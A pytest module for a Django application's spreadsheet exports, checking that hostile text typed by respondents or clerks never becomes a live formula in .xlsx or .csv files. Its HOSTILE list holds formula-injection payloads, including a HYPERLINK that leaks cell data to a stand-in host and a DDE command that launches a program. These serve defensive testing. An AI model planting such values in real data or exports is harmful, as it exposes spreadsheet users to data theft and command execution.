"""Exports carry data, never formulas (issue 9): hostile text typed by an anonymous respondent
or a clerk reaches every .xlsx and .csv Manyi writes as readable text, never as a formula.

- every view marked `@spreadsheet_export` in the URLconf must have a case here, and every
  case must be such a view (an export added later fails until it is walked);
- each export is downloaded as a user allowed to, opened (openpyxl data_only=False, csv) and
  checked cell by cell;
- the source holds no writer that bypasses manyi.common.spreadsheets.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import html
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from manyi.common import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://x"&B2,"details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]
ROOT = Path(__file__).resolve().parents[2]  # the manyi package

# --- the test's own reading of "would run as a formula" (the spec, not the implementation) ---

_PLAIN_SIGNED = re.compile(r"[+\-＋－][\d\s().,\-]*")


def _risky(text: str) -> bool:
    if not text:
        return False
    if text[0] in "=@\t\r\n＝＠":
        return True
    return text[0] in "+-＋－" and not _PLAIN_SIGNED.fullmatch(text)


def _xlsx_texts(content: bytes, where: str) -> list[str]:
    wb = load_workbook(io.BytesIO(content), data_only=False)
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                at = f"{where} {ws.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{at} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not _risky(cell.value) or cell.quotePrefix, (
                        f"{at} would run as a formula when edited: {cell.value!r}")
                    texts.append(cell.value)
    return texts


def _csv_texts(content: bytes, where: str) -> list[str]:
    texts: list[str] = []
    reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    for n, row in enumerate(reader, start=1):
        for i, field in enumerate(row, start=1):
            assert not _risky(field), f"{where} row {n} field {i} starts a formula: {field!r}"
            texts.append(field[1:] if field.startswith("'") else field)
    return texts


# --- the hostile records ----------------------------------------------------------------------


@pytest.fixture
def hostile(db: Any, client: Any, django_capture_on_commit_callbacks: Any) -> dict[str, Any]:
    from manyi.claims.models import Claim
    from manyi.complaints.models import Complaint
    from manyi.customers.models import Customer, Product
    from manyi.demo.build import build_demo
    from manyi.surveys.models import Campaign, Invitation, Response, TemplateItem
    from manyi.surveys.services import link_issue

    today = timezone.localdate()
    build_demo(seed=7, today=today, scale="tiny", include_apps=True)
    for i, customer in enumerate(Customer.objects.order_by("pk")):
        Customer.objects.filter(pk=customer.pk).update(name=HOSTILE[i % len(HOSTILE)])
    for i, product in enumerate(Product.objects.order_by("pk")):
        Product.objects.filter(pk=product.pk).update(
            name=HOSTILE[i % len(HOSTILE)], model=f"{HOSTILE[i % len(HOSTILE)]}#{i}")
    for i, complaint in enumerate(Complaint.objects.order_by("pk")):
        Complaint.objects.filter(pk=complaint.pk).update(
            product_model=HOSTILE[i % len(HOSTILE)],
            customer_demand=HOSTILE[(i + 1) % len(HOSTILE)],
            description=HOSTILE[(i + 2) % len(HOSTILE)],
        )
    assert Claim.objects.exists()

    # A respondent types the hostile text into the comment boxes of the public survey page.
    campaign = Campaign.objects.filter(status="running").order_by("-pk").first()
    assert campaign is not None
    invitation = (Invitation.objects.filter(campaign=campaign, status__in=("sent", "opened"))
                  .exclude(pk__in=Response.objects.values("invitation_id")).first())
    if invitation is None:
        from manyi.accounts.models import User
        from manyi.surveys.services import respondent_add

        some = Invitation.objects.filter(campaign=campaign).first()
        assert some is not None
        invitation = respondent_add(
            actor=User.objects.get(username="admin"), campaign=campaign,
            customer=some.customer, contact=None, name="respondent", channel="email")
    token, _link = link_issue(invitation=invitation, actor=None, purpose="test")
    url = reverse("survey_public:form", args=[token])
    assert client.get(url).status_code == 200
    data = {"action": "submit", "submission_key": "hostile"}
    texts = 0
    for item in TemplateItem.objects.filter(template_id=campaign.template_id):
        if item.scale == "text":
            data["a_" + item.key] = HOSTILE[texts % len(HOSTILE)]
            texts += 1
        elif item.rated:
            data["a_" + item.key] = str(min(4, item.max_value))
    assert texts, "the questionnaire has a comment box"
    with django_capture_on_commit_callbacks(execute=True):
        posted = client.post(url, data)
    assert posted.status_code == 302, posted.content.decode()[:2000]
    assert Response.objects.get(invitation=invitation).status == "submitted"
    first = TemplateItem.objects.filter(template_id=campaign.template_id).order_by("position")
    TemplateItem.objects.filter(pk=first[0].pk).update(text=HOSTILE[0], text_en=HOSTILE[1])
    return {"today": today, "campaign": campaign}


# --- every export endpoint, with the URLs that walk it ----------------------------------------


def _links(client: Any, page: str, name: str) -> list[str]:
    response = client.get(page)
    assert response.status_code == 200, page
    prefix = reverse(name, args=["CHART"]).split("CHART")[0] if "campaign" not in name else ""
    found = sorted({html.unescape(h) for h in re.findall(r'href="([^"]*/xlsx/[^"]*)"',
                                                          response.content.decode())})
    found = [h for h in found if h.startswith(prefix)]
    assert found, f"{page} offers no .xlsx table"
    return found


def _customer_urls(client: Any, h: dict[str, Any]) -> list[str]:
    return [f"{reverse('customers:export', args=[kind])}?format={fmt}&lang={lang}"
            for kind in ("customers", "contacts", "orders") for fmt in ("xlsx", "csv")
            for lang in ("zh", "en")]


def _cost_urls(client: Any, h: dict[str, Any]) -> list[str]:
    start = h["today"] - dt.timedelta(days=4 * 365)
    return [f"{reverse('claims:costs_export')}?date_from={start}&date_to={h['today']}"]


def _summary_urls(client: Any, h: dict[str, Any]) -> list[str]:
    from manyi.complaints.models import Complaint

    years = sorted({c.received_at.year for c in Complaint.objects.all()})
    return [f"{reverse('complaints:summary_xlsx')}?year={y}&lang={lang}"
            for y in years for lang in ("zh", "en")]


def _response_urls(client: Any, h: dict[str, Any]) -> list[str]:
    base = reverse("surveys:export", args=[h["campaign"].pk])
    return [f"{base}?format={fmt}&shape={shape}" for fmt in ("xlsx", "csv")
            for shape in ("wide", "long")]


def _template_urls(client: Any, h: dict[str, Any]) -> list[str]:
    return [reverse("surveys:template_export", args=[h["campaign"].template_id, "xlsx"])]


def _campaign_chart_urls(client: Any, h: dict[str, Any]) -> list[str]:
    return _links(client, reverse("analysis:campaign", args=[h["campaign"].pk]),
                  "analysis:campaign_xlsx")


def _complaint_chart_urls(client: Any, h: dict[str, Any]) -> list[str]:
    return _links(client, reverse("analysis:complaints"), "analysis:complaints_xlsx")


def _kpi_chart_urls(client: Any, h: dict[str, Any]) -> list[str]:
    return _links(client, reverse("analysis:kpi"), "analysis:kpi_xlsx")


# URL name → (the URLs that walk it, whether hostile text must show in it: KPI tables hold
# only months and figures)
CASES: dict[str, tuple[Callable[[Any, dict[str, Any]], list[str]], bool]] = {
    "customers:export": (_customer_urls, True),
    "claims:costs_export": (_cost_urls, True),
    "complaints:summary_xlsx": (_summary_urls, True),
    "surveys:export": (_response_urls, True),
    "surveys:template_export": (_template_urls, True),
    "analysis:campaign_xlsx": (_campaign_chart_urls, True),
    "analysis:complaints_xlsx": (_complaint_chart_urls, True),
    "analysis:kpi_xlsx": (_kpi_chart_urls, False),
}


def _walk(patterns: list[Any], prefix: str = "") -> Iterator[tuple[str, Any]]:
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _walk(p.url_patterns, f"{prefix}{p.namespace}:" if p.namespace else prefix)
        elif isinstance(p, URLPattern):
            yield f"{prefix}{p.name}", p.callback


def test_every_export_view_in_the_urlconf_is_walked() -> None:
    marked = {name for name, view in _walk(get_resolver().url_patterns)
              if getattr(view, "spreadsheet_export", False)}
    missing = marked - CASES.keys()
    assert not missing, f"export views not walked by this test: {sorted(missing)}: add a case"
    stale = CASES.keys() - marked
    assert not stale, f"cases that are no export view (mark it @spreadsheet_export): {stale}"


def test_no_export_writes_a_formula(client: Any, hostile: dict[str, Any]) -> None:
    from manyi.accounts.models import User

    client.force_login(User.objects.get(username="admin"))
    walked, failures = 0, []
    for name, (urls_of, must_show) in CASES.items():
        shown = False
        for url in urls_of(client, hostile):
            response = client.get(url)
            assert response.status_code == 200, f"{url}: {response.status_code}"
            content = b"".join(response.streaming_content) if response.streaming \
                else response.content
            kind = response["Content-Type"]
            try:
                if kind.startswith("text/csv"):
                    texts = _csv_texts(content, url)
                else:
                    assert kind == spreadsheets.XLSX_CONTENT_TYPE, f"{url}: {kind}"
                    texts = _xlsx_texts(content, url)
            except AssertionError as exc:
                failures.append(str(exc).splitlines()[0])
                continue
            shown = shown or any(bad in text for text in texts for bad in HOSTILE)
            walked += 1
        assert shown or failures or not must_show, f"{name}: no hostile text in its files"
    assert not failures, "\n".join(failures)
    assert walked >= 25


# --- no writer bypasses the shared layer --------------------------------------------------------

SHARED = ROOT / "common" / "spreadsheets.py"
CONTENT_TYPES = ("spreadsheetml", "text/csv")


def _sources() -> Iterator[tuple[Path, ast.Module]]:
    for path in sorted(ROOT.rglob("*.py")):
        if path == SHARED or "tests" in path.parts or "migrations" in path.parts:
            continue
        yield path, ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def _problems(path: Path, tree: ast.Module) -> Iterator[str]:
    where = path.relative_to(ROOT.parent)
    for node in ast.walk(tree):
        at = f"{where}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if (node.module == "openpyxl" and names & {"Workbook"}) or \
                    node.module.startswith("openpyxl.cell") or \
                    node.module.startswith("openpyxl.workbook") or \
                    (node.module == "csv" and names & {"writer", "DictWriter"}):
                yield f"{at}: imports an openpyxl/csv writer"
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and (
                (node.value.id == "csv" and node.attr in ("writer", "DictWriter"))
                or (node.value.id == "openpyxl" and node.attr == "Workbook")):
            yield f"{at}: {node.value.id}.{node.attr} writes around the guard"
        elif isinstance(node, ast.Assign | ast.AugAssign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for t in targets:
                if isinstance(t, ast.Attribute) and t.attr in ("value", "data_type", "_value") \
                        and not (isinstance(t.value, ast.Name) and t.value.id == "self"):
                    yield f"{at}: sets a cell's .{t.attr} directly"
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and any(
                c in node.value for c in CONTENT_TYPES) and path.name != "attachments.py":
            yield f"{at}: a spreadsheet content type: use xlsx_response/csv_response"
        elif isinstance(node, ast.FunctionDef):
            calls = {n.func.id if isinstance(n.func, ast.Name) else getattr(n.func, "attr", "")
                     for n in ast.walk(node) if isinstance(n, ast.Call)}
            marks = {d.id if isinstance(d, ast.Name) else getattr(d, "attr", "")
                     for d in node.decorator_list}
            if calls & {"xlsx_response", "csv_response"} and "spreadsheet_export" not in marks:
                yield f"{at}: {node.name} returns a spreadsheet without @spreadsheet_export"
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr == "cell" and (len(node.args) >= 3 or any(
                    k.arg == "value" for k in node.keywords)):
            yield f"{at}: writes a cell with .cell(value=…): use Sheet.cell_at"


def test_every_writer_goes_through_the_shared_layer() -> None:
    problems = [p for path, tree in _sources() for p in _problems(path, tree)]
    assert not problems, "\n".join(problems)


def test_the_source_check_finds_a_direct_writer() -> None:
    bad = ast.parse(
        "import csv\nfrom openpyxl import Workbook\n"
        "def export(rows):\n    w = csv.writer(out)\n    ws.cell(row=1, column=1, value='=1')\n"
        "    cell.value = '=1'\n    return xlsx_response(b'', 'x.xlsx')\n"
        "T = 'text/csv'\n"
    )
    found = list(_problems(ROOT / "x" / "bad.py", bad))
    assert len(found) == 6, found


# --- the guard itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "＝1+1", "＠A1", "＋1+A1", "－A1", "\t=1", "\r=1",
                                  "- item", "+A1", "=1"])
def test_formula_like_text_is_written_as_text(text: str) -> None:
    assert spreadsheets.csv_text(text) == "'" + text
    assert spreadsheets.csv_unguard(spreadsheets.csv_text(text)) == text
    book = spreadsheets.new_workbook()
    sheet = book.sheet("t")
    sheet.append([text])
    sheet.cell_at(2, 1, text)
    ws = load_workbook(io.BytesIO(book.to_bytes()), data_only=False).active
    assert ws is not None
    stored = text.replace("\r", "\n")  # XML reads a CR as a line feed
    for cell in (ws["A1"], ws["A2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (stored, "s", True)


@pytest.mark.parametrize("value", [-3.5, -2, 0, "-3.5", "+86 21 5555 0000", "-(12)", "plain",
                                   "'=already quoted", "中文", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: Any) -> None:
    text = spreadsheets.csv_text(value)
    assert spreadsheets.csv_unguard(text) == str(value)
    if value != "'=already quoted":
        assert text == str(value)
    book = spreadsheets.new_workbook(write_only=True)
    book.sheet("t").append([value])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws is not None
    cell = ws["A1"]
    assert cell.value == (value if value != "" else None)
    assert not cell.quotePrefix
    if isinstance(value, float | int):
        assert cell.data_type == "n"


def test_control_characters_do_not_break_an_xlsx() -> None:
    book = spreadsheets.new_workbook()
    book.sheet("t").append(["a\x01b", "=\x02x"])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws is not None
    assert (ws["A1"].value, ws["B1"].value, ws["B1"].data_type) == ("ab", "=x", "s")
